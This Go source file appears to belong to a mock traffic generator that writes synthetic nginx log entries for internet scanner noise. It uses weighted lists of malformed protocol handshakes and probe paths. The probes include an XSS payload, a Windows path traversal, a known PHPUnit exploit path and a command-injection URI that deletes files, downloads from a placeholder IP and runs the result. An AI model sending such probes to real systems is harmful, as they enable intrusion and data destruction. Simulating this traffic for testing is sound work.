package traffic

import (
	"bytes"
	"strings"

	"github.com/tailflux/tailflux/mock/dice"
)

var (
	// What nginx takes for a request line when something else than HTTP arrives.
	// It ends where a CR or LF would be.
	brokenLines = dice.NewWeighted([]string{
		// TLS hellos, three sorts of them
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x8a\x1b\xe5\x97\x22\xd4\x5c\xf8\x11\x06\x9e\x7f\x30\xc1\xaa\x5d\xe2\x08\x77\xb4\x19\x40\xf3\x6b\x02\x84\xcd\x3e\x20",
		"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03",
		"\x16\x03\x01\x00{\x01\x00\x00w\x03\x03\xb9$\xa7\x14\xfe5\x90\x01\xdd\x88\xb1P\x9c",
		"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", // RDP
		"\x05\x01\x00", // SOCKS
		"\x00\x00\x00TSMBr\x00\x00\x00\x00\x18\x01(",
		"SSH-2.0-Go",
		"MGLNDD_203.0.113.80_80",
		"\x80w\x01\x03\x01\x00N\x00\x00\x00 \x00\x009", // SSLv2
	}, []float64{30, 20, 12, 14, 6, 4, 6, 5, 3})

	// Probes are proper requests, for things this site does not have.
	probes = dice.NewWeighted([]string{
		"/.env",
		"/wp-login.php",
		"/.git/config",
		"/cgi-bin/luci/;stok=/locale",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/actuator/health",
		"/?q='\"><script>alert(1)</script>",
		"/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.66/x;sh+/tmp/x",
		`/..\..\windows\win.ini`,
		"/" + strings.Repeat("a", 120),
	}, []float64{22, 18, 14, 8, 8, 8, 4, 6, 4, 4})
	probeStatus = dice.NewWeighted([]int{444, 404, 403, 400}, []float64{45, 35, 12, 8})
)

// Scan returns what a scanner sends: three in four times no HTTP at all. nginx
// answers most of it with 400 and closes; 444 is closing without a word, 408
// having waited in vain. The request is good until the next call.
func (t *Traffic) Scan() *Request {
	t.changeWeather()
	d := t.dice
	r := t.begin(t.site.scanners.Pick(d))
	r.Host = "_"
	x := d.Share()
	if x >= 0.74 {
		t.drawProbe()
		return r
	}
	r.Broken, r.Agent, r.Protocol = true, "", ""
	switch {
	case x < 0.5:
		r.BrokenLine = brokenLines.Pick(d)
		r.Status, r.BodyBytes, r.BytesSent = 400, 150, 302
		r.RequestTime = int64(d.Roll(220))
	case x < 0.57: // sent an empty line and left
		r.BrokenLine = Blank
		r.Status, r.RequestTime = 400, int64(d.Roll(900))
	case x < 0.65: // sent an empty line and waited
		r.BrokenLine = Blank
		r.Status, r.RequestTime = 408, 60_000+int64(d.Roll(3))
	case x < 0.71: // left before a byte was looked at
		r.Status, r.RequestTime = 400, int64(d.Roll(60))
	default:
		r.Status, r.RequestTime = 408, 60_000+int64(d.Roll(3))
	}
	return r
}

func (t *Traffic) drawProbe() {
	d, r := t.dice, &t.req
	r.Method = "GET"
	if d.Chance(0.15) {
		r.Method = "POST"
	}
	r.URI = append(r.URI, probes.Pick(d)...)
	r.pathLen = len(r.URI)
	if i := bytes.IndexByte(r.URI, '?'); i >= 0 {
		r.pathLen = i
	}
	r.Status = probeStatus.Pick(d)
	r.RequestLength = int64(60 + len(r.URI) + d.Roll(150))
	if r.Status != 444 {
		r.BodyBytes = errorPages[r.Status]
		r.BytesSent = r.BodyBytes + 152
	}
}
